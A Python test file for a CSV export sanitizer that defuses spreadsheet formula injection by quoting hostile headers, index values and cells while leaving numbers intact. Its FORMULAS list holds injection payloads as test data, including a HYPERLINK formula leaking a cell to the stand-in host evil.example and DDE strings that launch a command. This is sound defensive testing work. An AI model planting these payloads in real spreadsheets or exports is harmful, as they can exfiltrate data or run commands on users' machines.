"""CSV downloads cannot carry spreadsheet formulas: hostile headers, index values and cells are
prefixed with `'`, numbers stay numbers."""

from __future__ import annotations

import csv
import io

import numpy as np
import pandas as pd
import pytest

from lib.views.spreadsheet import FORMULA_STARTS, PLAIN_NUMBER, safe_text, spreadsheet_safe, to_safe_csv

FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "-inf",
    "--1",
    "ok\r=1+1",  # no formula at the start, but a bare CR would start a new row with one
]


def read_back(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def dangerous(field: str) -> bool:
    return field.startswith(FORMULA_STARTS) and not PLAIN_NUMBER.fullmatch(field)


def hostile_frame() -> pd.DataFrame:
    n = len(FORMULAS)
    index = pd.Index([f"run{i}" if i % 2 else formula for i, formula in enumerate(FORMULAS)], name="=run_id")
    return pd.DataFrame(
        {
            "run.name": FORMULAS,
            FORMULAS[0]: np.linspace(-1.0, 1.0, n),  # a header holding a formula, negative numbers below
            "@levels": pd.Categorical(FORMULAS[::-1]),
            "-mixed": [-0.5, "-0.5", "-1+2", None, np.nan, True, -3, ["=1"], "+1e-3", "plain", "ok\r=1+1"],
            "=ints": np.arange(-5, n - 5),
            "+flags": [i % 2 == 0 for i in range(n)],
            "\tstrings": pd.array(FORMULAS, dtype="string"),
        },
        index=index,
    )


def test_no_field_of_the_csv_can_start_a_formula() -> None:
    rows = read_back(to_safe_csv(hostile_frame()))
    assert len(rows) == len(FORMULAS) + 1 and {len(row) for row in rows} == {8}  # no CR or LF broke a row
    fields = [field for row in rows for field in row]
    assert not [field for field in fields if dangerous(field)]
    assert rows[0] == [
        "'=run_id",
        "run.name",
        "'" + FORMULAS[0],
        "'@levels",
        "'-mixed",
        "'=ints",
        "'+flags",
        "'\tstrings",
    ]


def test_formulas_are_kept_as_text_behind_one_quote() -> None:
    rows = read_back(to_safe_csv(hostile_frame()))
    assert [row[1] for row in rows[1:]] == ["'" + formula for formula in FORMULAS[:-1]] + ["ok\r=1+1"]
    assert [row[0] for row in rows[1:]][:2] == ["'" + FORMULAS[0], "run1"]


def test_numbers_stay_numbers() -> None:
    frame = hostile_frame()
    safe = spreadsheet_safe(frame)
    for position in (1, 4, 5):  # floats (negatives included), integers, booleans
        assert safe.iloc[:, position].dtype == frame.iloc[:, position].dtype
        np.testing.assert_array_equal(safe.iloc[:, position].to_numpy(), frame.iloc[:, position].to_numpy())
    rows = read_back(to_safe_csv(frame))
    assert rows[1][2] == "-1.0" and rows[1][5] == "-5"
    assert [row[4] for row in rows[1:]] == [
        "-0.5", "-0.5", "'-1+2", "", "", "True", "-3", "['=1']", "+1e-3", "plain", "ok\r=1+1",
    ]  # fmt: skip


def test_the_frame_given_is_not_changed() -> None:
    frame = hostile_frame()
    before = frame.copy()
    spreadsheet_safe(frame)
    pd.testing.assert_frame_equal(frame, before)


def test_multi_index_labels_and_names_are_made_safe() -> None:
    frame = pd.DataFrame(
        [[1, "=x"]],
        index=pd.MultiIndex.from_tuples([("=a", -1)], names=["@k", "n"]),
        columns=pd.MultiIndex.from_tuples([("+g", "v"), ("g", "-w")]),
    )
    safe = spreadsheet_safe(frame)
    assert list(safe.index) == [("'=a", -1)] and list(safe.index.names) == ["'@k", "n"]
    assert list(safe.columns) == [("'+g", "v"), ("g", "'-w")]
    assert safe.iloc[0, 1] == "'=x" and safe.iloc[0, 0] == 1


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("-0.5", "-0.5"),
        ("+3", "+3"),
        ("-", "'-"),
        ("1-2", "1-2"),
        ("", ""),
        ("'=x", "'=x"),
    ],
)
def test_safe_text(text: str, shown: str) -> None:
    assert safe_text(text) == shown
